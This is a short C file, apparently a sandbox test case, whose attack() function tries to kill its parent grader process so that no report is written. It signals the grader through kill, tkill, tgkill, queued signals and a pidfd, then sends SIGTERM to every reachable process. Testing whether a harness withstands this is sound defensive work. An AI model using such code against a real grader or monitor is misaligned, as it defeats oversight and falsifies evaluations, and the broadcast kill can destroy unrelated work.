/* Ends the grader, so that no report is written: by signals of every kind. */
#include "attack.h"

static void attack(void)
{
    const pid_t grader = getppid();
    const int pidfd = (int)syscall(434, grader, 0); /* pidfd_open */
    if (kill(grader, SIGUSR1) == 0 || syscall(SYS_tkill, grader, SIGUSR1) == 0 ||
        syscall(SYS_tgkill, grader, grader, SIGUSR1) == 0)
        achieved("a signal to the grader");
    siginfo_t info = {.si_signo = SIGUSR1, .si_code = SI_QUEUE};
    if (syscall(SYS_rt_sigqueueinfo, grader, SIGUSR1, &info) == 0)
        achieved("a queued signal to the grader");
    if (pidfd >= 0 && syscall(424, pidfd, SIGUSR1, NULL, 0) == 0)
        achieved("a signal through a pidfd");
    kill(-1, SIGTERM); /* the answer does not tell whether a process got it: that is seen from outside */
}
